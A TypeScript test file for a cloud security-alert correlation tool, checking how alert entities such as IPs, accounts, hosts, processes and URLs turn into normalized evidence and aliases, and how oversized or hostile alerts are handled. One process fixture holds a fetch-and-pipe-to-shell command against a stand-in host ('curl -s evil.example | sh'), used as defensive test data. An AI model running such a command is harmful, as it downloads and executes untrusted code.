import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toEntity } from '../../../../src/domain/entity.ts';
import type { JsonObject } from '../../../../src/domain/json.ts';
import { anAlert, anEntity, subscriptionA, virtualMachine } from '../../../builders/alert.ts';
import { collectedEvidence, type CollectedEvidence } from '../../../builders/collectedEvidence.ts';
import { directoryId } from '../../../builders/correlationWorld.ts';

const machine = virtualMachine('Web-1');
const folded = machine.toLowerCase();

/** What entities tell in an alert about no resource. */
function told(...entities: readonly JsonObject[]): readonly string[] {
  return collected([], ...entities).found;
}

function collected(on: readonly string[], ...entities: readonly JsonObject[]): CollectedEvidence {
  return collectedEvidence(anAlert({ on, entities: entities.map(anEntity) }));
}

describe('the resources of an alert', () => {
  it('are evidence in folded case', () => expect(collected([machine]).found).toEqual([`resource ${folded}`]));

  it('are no evidence where they are a subscription or a resource group, which everything inside shares', () =>
    expect(
      collected([`/subscriptions/${subscriptionA}`, `/subscriptions/${subscriptionA}/resourceGroups/shop`]).found,
    ).toEqual([]));
});

describe('an entity of type', () => {
  it.each<[string, JsonObject, string]>([
    ['ip', { address: '::ffff:203.0.113.7' }, 'address 203.0.113.7'],
    ['ip', { address: '10.0.0.4' }, `privateAddress 10.0.0.4 in ${subscriptionA}`],
    ['account', { aadUserId: directoryId(1).toUpperCase() }, `account ${directoryId(1)}`],
    ['account', { name: 'Deploy' }, `account deploy on ${subscriptionA}`],
    ['host', { azureID: machine }, `resource ${folded}`],
    ['host', { hostName: 'WEB-1' }, `resource host web-1 in ${subscriptionA}`],
    ['host', { netBiosName: 'WEB-1' }, `resource host web-1 in ${subscriptionA}`],
    ['file', { name: 'X.sh', directory: '/tmp' }, 'file /tmp/x.sh'],
    ['filehash', { algorithm: 'SHA256', value: 'ABCD' }, 'fileHash abcd'],
    ['host-logon-session', { sessionId: '0xA1' }, `session session 0xa1 on ${subscriptionA}`],
    ['dns', { domainName: 'Evil.Example.' }, 'domain evil.example'],
    ['url', { url: 'https://user:pw@Evil.Example:8443/x?y' }, 'domain evil.example'],
    ['url', { url: 'http://203.0.113.7/x' }, 'address 203.0.113.7'],
    ['azure-resource', { resourceId: machine }, `resource ${folded}`],
    ['k8s-pod', { name: 'API-0', namespace: { type: 'k8s-namespace', name: 'Shop' } }, 'workload pod shop/api-0 in'],
    ['container', { containerId: 'ABC' }, 'workload container abc'],
    ['amazon-resource', { amazonResourceId: 'arn:aws:s3:::B' }, 'resource arn:aws:s3:::b'],
    ['gcp-resource', { projectId: 'P', resourceType: 'vm', resourceName: 'W' }, 'resource gcp/p/vm/w'],
    ['cloud-application', { appId: 'APP' }, 'account app'],
    ['mailbox', { upn: 'Night@Contoso.example' }, 'account night@contoso.example'],
    ['IP', { address: '203.0.113.7' }, 'address 203.0.113.7'],
  ])('%s %j tells "%s"', (type, properties, expected) => {
    const found = told({ type, ...properties });
    expect(found).toHaveLength(1);
    expect(found[0]?.startsWith(expected)).toBe(true);
  });

  it.each<[string, JsonObject]>([
    ['ip', { address: '127.0.0.1' }],
    ['account', { name: 'root' }],
    ['host', { azureID: `/subscriptions/${subscriptionA}` }],
    ['process', { commandLine: 'bash' }],
    ['process', { processId: '0x1' }],
    ['file', { name: 'x.sh' }],
    ['host-logon-session', { sessionId: '0x3E7' }],
    ['url', { url: 'http://10.0.0.1/x' }],
    ['url', { url: '/relative' }],
    ['mailbox', { upn: 'root' }],
    ['gcp-resource', { projectId: 'p' }],
    ['malware', { name: 'Conficker' }],
    ['__proto__', { address: '203.0.113.7' }],
    ['constructor', { address: '203.0.113.7' }],
    ['toString', { address: '203.0.113.7' }],
  ])('%s %j tells nothing', (type, properties) => expect(told({ type, ...properties })).toEqual([]));
});

describe('a process', () => {
  const process = { type: 'process', processId: '0x1A', creationTimeUtc: '2026-03-02T07:00:00Z' };

  it('is one run on one machine, whatever the case of its number', () => {
    const [shouted] = told(process);
    expect(told({ ...process, processId: '0x1a' })).toEqual([shouted]);
    expect(shouted).toBe(`session process 0x1a 2026-03-02t07:00:00z on ${subscriptionA}`);
  });

  it('is a trace by its command line where that has arguments', () =>
    expect(told({ type: 'process', commandLine: ' Curl -s evil.example | SH ' })).toEqual([
      'command curl -s evil.example | sh',
    ]));
});

describe('names that exist in many places', () => {
  it('are scoped by the resource of the alert where it has one', () =>
    expect(collected([machine], { type: 'ip', address: '10.0.0.4' }).found).toContain(
      `privateAddress 10.0.0.4 in ${folded}`,
    ));

  it('are scoped by the host that their entity refers to', () => {
    const host = { $id: 'h', type: 'host', azureID: machine };
    expect(told(host, { type: 'account', name: 'deploy', host: { $ref: 'h' } })).toContain(
      `account deploy on ${folded}`,
    );
    expect(told(host, { type: 'host-logon-session', sessionId: '7', host: { $ref: 'h' } })).toContain(
      `session session 7 on ${folded}`,
    );
  });

  it('are scoped by a host that stands inline', () =>
    expect(told({ type: 'account', name: 'deploy', host: { type: 'host', hostName: 'Web-1' } })).toEqual([
      `account deploy on host web-1 in ${subscriptionA}`,
    ]));

  it('fall back to the alert where the reference leads nowhere, to itself or in a circle', () => {
    expect(told({ type: 'account', name: 'deploy', host: { $ref: 'gone' } })).toEqual([
      `account deploy on ${subscriptionA}`,
    ]);
    expect(told({ $id: 'a', type: 'account', name: 'deploy', host: { $ref: 'a' } })).toEqual([
      `account deploy on ${subscriptionA}`,
    ]);
    const circle = [
      { $id: 'p', type: 'process', processId: '1', creationTimeUtc: 't', host: { $ref: 'q' } },
      { $id: 'q', type: 'process', processId: '2', creationTimeUtc: 't', host: { $ref: 'p' } },
    ];
    expect(told(...circle)).toEqual([
      `session process 1 t on ${subscriptionA}`,
      `session process 2 t on ${subscriptionA}`,
    ]);
  });
});

describe('aliases', () => {
  it('join the identities of an account', () =>
    expect(
      collected([], { type: 'account', aadUserId: directoryId(1), name: 'night', upnSuffix: 'contoso.example' }),
    ).toEqual({
      found: [`account ${directoryId(1)}`],
      aliases: [`account ${directoryId(1)} = night@contoso.example`],
    }));

  it('join a machine and its name', () =>
    expect(collected([], { type: 'host', azureID: machine, hostName: 'WEB-1' })).toEqual({
      found: [`resource ${folded}`],
      aliases: [`resource ${folded} = host web-1 in ${subscriptionA}`],
    }));
});

describe('hostile and oversized alerts', () => {
  it('are read up to a bound: ten thousand entities give no more than the first two thousand', () => {
    const entities = Array.from({ length: 10_000 }, (_, index) => anEntity({ type: 'filehash', value: String(index) }));
    const { found } = collectedEvidence(anAlert({ on: [], entities }));
    expect(found).toHaveLength(2_000);
    expect(found.at(-1)).toBe('fileHash 1999');
  });

  it('have keys of a megabyte cut, in evidence and aliases alike', () => {
    const long = 'x'.repeat(1_000_000);
    const { found, aliases } = collected(
      [],
      { type: 'filehash', value: long },
      { type: 'account', aadUserId: directoryId(1), name: long, upnSuffix: 'contoso.example' },
    );
    expect(Math.max(...[...found, ...aliases].map(({ length }) => length))).toBeLessThan(1_200);
  });

  it('never throw, whatever their entities are', () => {
    const type = fc.constantFrom('ip', 'account', 'host', 'process', 'url', 'k8s-pod', 'mailbox', '__proto__');
    const name = fc.constantFrom('address', 'name', 'host', 'url', 'azureID', 'sid', 'namespace', '$id', '$ref');
    const entity = fc.tuple(type, fc.dictionary(name, fc.jsonValue()));
    fc.assert(
      fc.property(fc.array(entity), (list) => {
        const entities = list.flatMap(
          ([named, properties]) => toEntity({ ...(properties as JsonObject), type: named }) ?? [],
        );
        collectedEvidence(anAlert({ entities }));
      }),
    );
  });
});
